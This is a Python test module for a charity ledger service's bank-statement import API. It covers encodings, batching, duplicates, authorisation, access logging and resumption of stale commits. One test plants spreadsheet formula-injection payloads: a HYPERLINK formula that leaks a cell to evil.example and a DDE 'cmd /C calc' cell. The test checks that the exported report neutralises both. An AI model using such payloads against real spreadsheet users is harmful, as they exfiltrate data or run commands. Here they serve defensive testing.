"""Imports through the real service over HTTP on anvil: preview, commit in as few
transactions as the batch limit allows, duplicates, would-be reverts, hostile files,
the report, the statement check and authorisation."""

from __future__ import annotations

import csv
import io
import socket
import time
from datetime import UTC, date, datetime, timedelta
from typing import Any

from sqlalchemy import select, update

from ledger_api.core import ids
from ledger_api.core.hexes import hex0x
from ledger_api.core.models import AccessLogRow, StatementImport
from ledger_api.mirror import tables as im
from tests.api.service import Service
from tests.imports.conftest import commit_and_wait, upload
from tests.imports.statements import HEADER, MAPPING, csv_text, rows, xlsx


def _mapping(campaign_id: str, **extra: Any) -> dict[str, Any]:
    return {**MAPPING, "campaign_id": campaign_id, **extra}


def _transactions_of(service: Service, donation_ids: list[str]) -> set[str]:
    wanted = {hex0x(ids.to_bytes32(d)) for d in donation_ids}
    runtime = service.runtime
    with runtime.engine.connect() as connection:
        found = connection.execute(select(im.Donation.donation_id, im.Donation.tx_hash)).all()
    hashes = {tx for donation, tx in found if donation in wanted}
    assert len([d for d, _ in found if d in wanted]) == len(wanted)
    return hashes


def _report(service: Service, key: str, import_id: str) -> list[dict[str, str]]:
    answer = service.get(f"/v1/imports/{import_id}/report.csv", key)
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text.lstrip("\ufeff"))))


def test_a_1000_row_gb18030_statement_previews_commits_in_two_transactions_and_never_twice(
    importing: Service,
) -> None:
    charity, key = importing.charity("Imports GB18030")
    campaign = importing.campaign(charity, key)
    body = rows(1000)
    body.insert(10, ["2026-10-05", "OUT0001", "房租", "", "2,000.00", "99.00", "支付房租", ""])
    body.insert(20, ["2026-10-06", "BAD0001", "某人", "1234.567", "", "", "捐款", ""])
    data = csv_text(body).encode("gb18030")
    preview = upload(importing, key, data, _mapping(campaign))
    assert preview.status_code == 201, preview.text
    shown = preview.json()
    assert shown["encoding"] == "gb18030" and shown["header_line"] == 4
    assert shown["verdicts"] == {"record": 1000, "outgoing": 1, "invalid": 1}
    assert shown["totals"] == [
        {
            "campaign_id": campaign,
            "currency": "CNY",
            "rows": 1000,
            "amount": sum(1000 + i % 1000 for i in range(1000)),
        }
    ]
    invalid = shown["items"][0]
    assert invalid["verdict"] == "invalid" and invalid["code"] == "amount-too-precise"
    assert invalid["line"] == 4 + 21 and invalid["column"] == "收入金额"
    assert "line 25" in invalid["message"]
    # Nothing was sent by the preview.
    assert importing.get(f"/v1/campaigns/{campaign}").json()["received"] == 0

    done = commit_and_wait(importing, key, shown["id"])
    assert done["progress"]["state"] == "done", done["progress"]
    assert done["progress"]["transactions"] == 2 and done["progress"]["rows_sent"] == 1000
    assert done["verdicts"] == {"recorded": 1000, "outgoing": 1, "invalid": 1}
    report = _report(importing, key, shown["id"])
    recorded = [r for r in report if r["verdict"] == "recorded"]
    assert len(recorded) == 1000 and all(len(r["receipt_secret"]) == 66 for r in recorded)
    assert len(_transactions_of(importing, [r["record_id"] for r in recorded])) == 2
    assert {r["amount"] for r in report if r["bank_reference"] == "B00000001"} == {"10.01"}

    again = upload(importing, key, data, _mapping(campaign))
    assert again.json()["verdicts"] == {"duplicate": 1000, "outgoing": 1, "invalid": 1}
    second = commit_and_wait(importing, key, again.json()["id"])
    assert second["progress"]["transactions"] == 0
    received = importing.get(f"/v1/campaigns/{campaign}").json()["received"]
    assert received == shown["totals"][0]["amount"]


def test_utf8_and_xlsx_statements_flag_overdraws_and_closed_campaigns_and_send_none_of_them(
    importing: Service,
) -> None:
    charity, key = importing.charity("Imports UTF-8")
    campaign = importing.campaign(charity, key)
    closed = importing.campaign(charity, key)
    assert importing.post(f"/v1/campaigns/{closed}/close", key).status_code == 201
    given = importing.donate(campaign, key, 500)
    body = rows(5, prefix="U")
    body[1][7] = ""
    mapping = {**MAPPING, "campaign_column": "项目"}
    header_extra = [campaign, closed, campaign, campaign, campaign]
    body = [[*r, c] for r, c in zip(body, header_extra, strict=True)]
    body.append(
        ["2026-10-09", "R0001", "退款", "", "8.00", "", "退款", given["id"], campaign]
    )  # overdraws 5.00
    body.append(
        ["2026-10-09", "R0002", "退款", "", "1.00", "", "退款", given["id"], campaign]
    )  # a real refund
    for name, data in (
        ("statement.csv", csv_text(body, title=False, header=[*HEADER, "项目"]).encode("utf-8")),
        ("statement.xlsx", xlsx(body, header=[*HEADER, "项目"])),
    ):
        preview = upload(importing, key, data, mapping, filename=name)
        assert preview.status_code == 201, preview.text
        shown = preview.json()
        by_ref = {item["bank_reference"]: item for item in shown["items"]}
        assert by_ref["U00000001"]["verdict"] == "would_revert"
        assert by_ref["U00000001"]["code"] == "CampaignIsClosed"
        assert by_ref["R0001"]["verdict"] == "would_revert"
        assert by_ref["R0001"]["code"] == "DonationOverdrawn"
        first = name.endswith(".csv")  # the XLSX repeats the CSV, committed by then
        available = 500 if first else 400
        assert (
            by_ref["R0001"]["params"]["available"] == available
            and by_ref["R0001"]["params"]["requested"] == 800
        )
        if not first:
            assert shown["verdicts"] == {"duplicate": 5, "would_revert": 2}
            assert by_ref["R0002"]["code"] == "already-imported"
            continue
        assert by_ref["R0002"]["verdict"] == "record"
        assert shown["verdicts"] == {"record": 5, "would_revert": 2}
        done = commit_and_wait(importing, key, shown["id"])
        assert done["verdicts"] == {"recorded": 5, "would_revert": 2}, done["items"]
        assert done["progress"]["transactions"] == 2  # one batch of 4, one refund
        assert importing.get(f"/v1/campaigns/{closed}").json()["received"] == 0
        trace = importing.get(f"/v1/donations/{given['id']}").json()
        assert trace["refunded"] == 100


def test_a_50_mb_upload_is_a_413_before_it_is_read(importing: Service) -> None:
    """50 MB announced, nothing sent: the answer comes at once (a server reading the body
    would wait for it), before the key is even looked at."""
    port = int(importing.base.rsplit(":", 1)[1])
    head = (
        "POST /v1/imports HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
        f"Content-Length: {50 * 1024 * 1024}\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        connection.sendall(head.encode())
        answer = connection.recv(65536)
    assert answer.split(b" ", 2)[1] == b"413", answer


def test_a_binary_file_renamed_csv_is_refused_cleanly_and_nothing_is_kept(importing: Service) -> None:
    charity, key = importing.charity("Imports binary")
    campaign = importing.campaign(charity, key)
    for data in (bytes(range(256)) * 400, b"\x7fELF\x02\x01\x01" + bytes(5000)):
        answer = upload(importing, key, data, _mapping(campaign), filename="statement.csv")
        assert answer.status_code == 422, answer.text
        assert answer.json()["code"] == "binary-file"
        assert "Traceback" not in answer.text
    # A mapping naming a column the file does not have, and no mapping at all.
    missing = upload(importing, key, csv_text(rows(2)).encode(), {**_mapping(campaign), "balance": "Saldo"})
    assert missing.status_code == 422 and missing.json()["code"] == "column-missing"
    assert missing.json()["params"]["column"] == "Saldo"
    bare = importing.post("/v1/imports", key, files={"file": ("s.csv", b"a,b\n")})
    assert bare.status_code == 422 and bare.json()["code"] == "mapping-missing"


def test_a_formula_cell_is_kept_as_text_and_neutralised_in_the_report(importing: Service) -> None:
    charity, key = importing.charity("Imports formulas")
    campaign = importing.campaign(charity, key)
    body = rows(3, prefix="F")
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    body[0][1] = hyperlink
    body[1][1] = "+cmd|' /C calc'!A0"
    body[2][1] = "@SUM(1+1)"
    preview = upload(importing, key, xlsx(body), _mapping(campaign), filename="s.xlsx")
    assert preview.status_code == 201, preview.text
    items = {item["line"]: item for item in preview.json()["items"]}
    assert items[5]["bank_reference"] == hyperlink and items[5]["verdict"] == "record"
    done = commit_and_wait(importing, key, preview.json()["id"])
    assert done["verdicts"] == {"recorded": 3}
    again = importing.post(f"/v1/imports/{preview.json()['id']}/commit", key)
    assert again.status_code == 409 and again.json()["code"] == "not-previewed"
    report = _report(importing, key, preview.json()["id"])
    assert [r["bank_reference"] for r in report] == ["'" + hyperlink, "'+cmd|' /C calc'!A0", "'@SUM(1+1)"]


def test_the_statement_check_reports_a_missing_and_an_extra_donation(importing: Service) -> None:
    charity, key = importing.charity("Imports statement check")
    campaign = importing.campaign(charity, key)
    # dry_run=false: previewed and committed in one request (202), followed by GET.
    first = upload(
        importing, key, csv_text(rows(2, prefix="S")).encode("gb18030"), _mapping(campaign), dry_run="false"
    )
    assert first.status_code == 202, first.text
    deadline = time.monotonic() + 60
    while importing.get(f"/v1/imports/{first.json()['id']}", key).json()["progress"]["state"] != "done":
        assert time.monotonic() < deadline
        time.sleep(0.1)
    by_hand = importing.donate(campaign, key, 777)  # on the ledger, not on the statement
    month = upload(importing, key, csv_text(rows(3, prefix="S")).encode("gb18030"), _mapping(campaign))
    assert month.json()["verdicts"] == {"duplicate": 2, "record": 1}
    today = date.today().isoformat()
    check = importing.get(
        f"/v1/imports/{month.json()['id']}/statement-check", key, params={"from": "2026-10-01", "to": today}
    )
    assert check.status_code == 200, check.text
    result = check.json()
    assert [row["bank_reference"] for row in result["missing"]] == ["S00000002"]
    assert [d["donation_id"] for d in result["extra"]] == [by_hand["id"]]
    assert result["matched"] == 2
    assert result["statement_credits"] == 1000 + 1001 + 1002
    assert result["ledger_received"] == 1000 + 1001 + 777
    assert result["closing_balance"] == 100_000 + 1000 + 1001 + 1002


def test_another_charitys_key_gets_404_on_every_import_and_profile_route_and_no_key_401(
    importing: Service,
) -> None:
    charity, key = importing.charity("Imports owner")
    campaign = importing.campaign(charity, key)
    _, other = importing.charity("Imports stranger")
    assert (
        importing.client.put(
            "/v1/import-profiles/bank-x", json=_mapping(campaign), headers={"Authorization": f"Bearer {key}"}
        ).status_code
        == 200
    )
    preview = upload(importing, key, csv_text(rows(2, prefix="A")).encode(), profile="bank-x")
    assert preview.status_code == 201, preview.text
    import_id = preview.json()["id"]
    routes = [
        ("GET", f"/v1/imports/{import_id}"),
        ("POST", f"/v1/imports/{import_id}/commit"),
        ("GET", f"/v1/imports/{import_id}/report.csv"),
        ("GET", f"/v1/imports/{import_id}/statement-check"),
        ("DELETE", f"/v1/imports/{import_id}"),
        ("GET", "/v1/import-profiles/bank-x"),
        ("DELETE", "/v1/import-profiles/bank-x"),
    ]
    for method, path in routes:
        stranger = importing.client.request(method, path, headers={"Authorization": f"Bearer {other}"})
        assert stranger.status_code == 404, (method, path, stranger.text)
        anonymous = importing.client.request(method, path)
        assert anonymous.status_code == 401, (method, path, anonymous.text)
    # The stranger's profile list is empty, and its upload cannot use the owner's profile.
    assert importing.get("/v1/import-profiles", other).json() == {"profiles": []}
    assert upload(importing, other, b"a,b\n1,2\n", profile="bank-x").status_code == 404
    assert importing.client.post("/v1/imports", files={"file": ("s.csv", b"a,b\n")}).status_code == 401
    admin = importing.get(f"/v1/imports/{import_id}", importing.admin()["Authorization"].split()[1])
    assert admin.status_code == 403  # imports are a charity's: the admin key names none
    assert importing.get("/v1/imports", other).json() == {"imports": []}
    listed = importing.get("/v1/imports", key).json()["imports"]
    assert [(i["id"], i["state"], i["rows"]) for i in listed] == [(import_id, "previewed", 2)]
    # Nothing of the owner's changed: the import is still previewed and the profile there.
    assert importing.get(f"/v1/imports/{import_id}", key).json()["progress"]["state"] == "previewed"
    assert importing.get("/v1/import-profiles", key).json()["profiles"][0]["name"] == "bank-x"
    assert (
        importing.client.delete(
            f"/v1/imports/{import_id}", headers={"Authorization": f"Bearer {key}"}
        ).status_code
        == 204
    )
    assert importing.get(f"/v1/imports/{import_id}", key).status_code == 404


def test_reading_an_imports_report_with_its_receipt_secrets_is_in_the_access_log(importing: Service) -> None:
    """(The service is shared by this module's tests: only these keys' rows are looked at.)"""
    charity, key = importing.charity("Imports logged")
    campaign = importing.campaign(charity, key)
    prying, other = importing.charity("Imports prying")
    preview = upload(importing, key, csv_text(rows(2, prefix="L")).encode(), _mapping(campaign))
    assert preview.status_code == 201, preview.text
    import_id = preview.json()["id"]
    assert importing.get(f"/v1/imports/{import_id}/report.csv", other).status_code == 404
    _report(importing, key, import_id)
    with importing.runtime.engine.connect() as connection:
        logged = connection.execute(
            select(
                AccessLogRow.key_id, AccessLogRow.outcome, AccessLogRow.charity_id, AccessLogRow.record_ids
            )
            .where(
                AccessLogRow.route == "/v1/imports/{import_id}/report.csv",
                AccessLogRow.key_id.in_([key[3:15], other[3:15]]),
            )
            .order_by(AccessLogRow.seq)
        ).all()
    assert (
        [tuple(row) for row in logged]
        == [
            (other[3:15], "refused", prying, None),  # the prying key names its own charity
            (key[3:15], "served", charity, f'["{import_id}"]'),
        ]
    )


def test_a_campaign_closed_after_the_preview_is_caught_at_commit_and_the_rest_lands(
    importing: Service,
) -> None:
    """The preview is stale by the commit: its rows are simulated again, the closed
    campaign's rows are found and kept back (their bank references free again), the rest
    is sent."""
    charity, key = importing.charity("Imports stale preview")
    open_campaign = importing.campaign(charity, key)
    closing = importing.campaign(charity, key)
    body = [[*row, open_campaign if i % 3 else closing] for i, row in enumerate(rows(30, prefix="T"))]
    data = csv_text(body, header=[*HEADER, "项目"]).encode("gb18030")
    mapping = {**MAPPING, "campaign_column": "项目"}
    preview = upload(importing, key, data, mapping)
    assert preview.status_code == 201, preview.text
    assert preview.json()["verdicts"] == {"record": 30}
    assert importing.post(f"/v1/campaigns/{closing}/close", key).status_code == 201
    done = commit_and_wait(importing, key, preview.json()["id"])
    assert done["progress"]["state"] == "done"
    assert done["verdicts"] == {"recorded": 20, "would_revert": 10}
    assert {i["code"] for i in done["items"] if i["verdict"] == "would_revert"} == {"CampaignIsClosed"}
    assert importing.get(f"/v1/campaigns/{open_campaign}").json()["received"] == sum(
        1000 + i for i in range(30) if i % 3
    )
    assert importing.get(f"/v1/campaigns/{closing}").json()["received"] == 0
    # Their references were released: a later statement may still import them elsewhere.
    again = upload(importing, key, data, mapping)
    assert again.json()["verdicts"] == {"duplicate": 20, "would_revert": 10}


def test_a_stale_commit_whose_rows_landed_is_taken_over_by_a_get_and_sends_nothing_again(
    importing: Service,
) -> None:
    """As a process that died after its transactions were mined but before it wrote that
    down: the import `running`, its rows sealed as claimed but not recorded. A GET leaves it
    alone while its heartbeat is fresh; once the heartbeat is old, a GET takes it over and
    the resumed commit finds every donation on the chain and sends none again."""
    charity, key = importing.charity("Imports resumed")
    campaign = importing.campaign(charity, key)
    preview = upload(importing, key, csv_text(rows(5, prefix="R")).encode(), _mapping(campaign))
    assert preview.status_code == 201, preview.text
    import_id = preview.json()["id"]
    engine = importing.runtime.engine
    with engine.connect() as connection:
        sealed = connection.execute(
            select(StatementImport.sealed_rows).where(StatementImport.id == import_id)
        ).scalar_one()
    done = commit_and_wait(importing, key, import_id)
    assert done["verdicts"] == {"recorded": 5}
    before = {line["bank_reference"]: line["record_id"] for line in _report(importing, key, import_id)}
    received = importing.get(f"/v1/campaigns/{campaign}").json()["received"]

    def cut(heartbeat: datetime) -> None:
        with engine.begin() as connection:
            connection.execute(
                update(StatementImport)
                .where(StatementImport.id == import_id)
                .values(state="running", sealed_rows=sealed, rows_sent=0, heartbeat_at=heartbeat)
            )

    cut(datetime.now(UTC))
    time.sleep(0.5)
    assert importing.get(f"/v1/imports/{import_id}", key).json()["progress"]["state"] == "running"
    cut(datetime.now(UTC) - timedelta(hours=1))
    deadline = time.monotonic() + 60
    while (shown := importing.get(f"/v1/imports/{import_id}", key).json())["progress"]["state"] != "done":
        assert time.monotonic() < deadline, shown["progress"]
        time.sleep(0.1)
    assert shown["verdicts"] == {"recorded": 5}
    assert shown["progress"]["rows_sent"] == 5
    assert {
        line["bank_reference"]: line["record_id"] for line in _report(importing, key, import_id)
    } == before
    assert importing.get(f"/v1/campaigns/{campaign}").json()["received"] == received
    assert upload(importing, key, csv_text(rows(5, prefix="R")).encode(), _mapping(campaign)).json()[
        "verdicts"
    ] == {"duplicate": 5}
